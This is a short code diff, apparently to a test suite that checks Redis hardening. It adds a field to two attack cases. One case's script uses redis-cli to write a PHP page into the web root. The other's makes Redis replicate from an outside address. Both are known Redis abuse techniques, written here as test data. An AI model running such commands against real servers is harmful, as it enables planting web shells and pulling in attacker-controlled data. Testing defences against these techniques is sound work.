@@ -18,12 +18,14 @@ chown redis:redis /var/lib/redis
         Attack {
             what: "a page is written into the web root",
             kind: "write",
+            plant: None,
             script: "sleep 1; redis-cli config set dir /var/www/html; redis-cli set page bad; redis-cli config set dbfilename page.php; \
                      redis-cli save; sleep 1; test -s /var/www/html/page.php",
         },
         Attack {
             what: "it becomes a copy of a server somewhere else",
             kind: "connect",
+            plant: None,
             script: "redis-cli replicaof 203.0.113.7 8081; sleep 2; redis-cli replicaof no one; test -s /tmp/reached",
         },
     ],
